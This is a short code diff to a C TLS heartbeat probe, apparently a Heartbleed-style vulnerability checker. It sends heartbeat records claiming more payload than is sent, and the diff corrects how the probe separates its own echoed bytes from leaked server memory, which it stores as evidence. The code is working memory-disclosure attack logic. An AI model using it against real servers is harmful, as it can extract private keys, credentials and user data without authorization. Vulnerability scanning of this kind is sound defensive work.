@@ -196,6 +196,7 @@ static void send_probe(struct probe *p, uint64_t now)
 {
     tls_handshake_buffer_free(&p->hs); /* the handshake is over for us */
     p->result.evidence.claimed_length = p->cfg.kit->probe_claim;
+    p->result.evidence.sent_length = p->cfg.kit->probe_sent;
     send_heartbeat(p, KIT_PROBE);
     p->phase = PH_PROBED;
     p->followup_at = now + p->cfg.followup_ms;
@@ -337,8 +338,10 @@ static bool echoes(const struct probe *p, enum kit_record which, const uint8_t *
                    uint16_t claimed)
 {
     uint16_t expected = which == KIT_PROBE ? p->cfg.kit->probe_claim : PROBE_FOLLOWUP_PAYLOAD;
+    uint16_t ours = which == KIT_PROBE ? p->cfg.kit->probe_sent : PROBE_FOLLOWUP_PAYLOAD;
     if (claimed != expected || len == 0)
         return false;
+    len = len < ours ? len : ours; /* beyond our bytes lies the server's memory */
     for (size_t i = 0; i < len; i++)
         if (payload[i] != kit_payload_byte(which, i))
             return false;
@@ -358,9 +361,10 @@ static void collect_leak(struct probe *p, uint64_t now, const uint8_t *data, siz
     struct probe_evidence *ev = &p->result.evidence;
     for (size_t i = 0; i < len; i++, p->leak_payload_seen++) {
         size_t at = p->leak_payload_seen;
-        if (at >= PROBE_PAYLOAD && at < p->cfg.kit->probe_claim) {
-            p->leak[at - PROBE_PAYLOAD] = data[i];
-            ev->leaked_bytes = at - PROBE_PAYLOAD + 1;
+        size_t sent = p->cfg.kit->probe_sent;
+        if (at >= sent && at < p->cfg.kit->probe_claim) {
+            p->leak[at - sent] = data[i];
+            ev->leaked_bytes = at - sent + 1;
         }
     }
     p->leak_idle_at = now + LEAK_IDLE_MS;
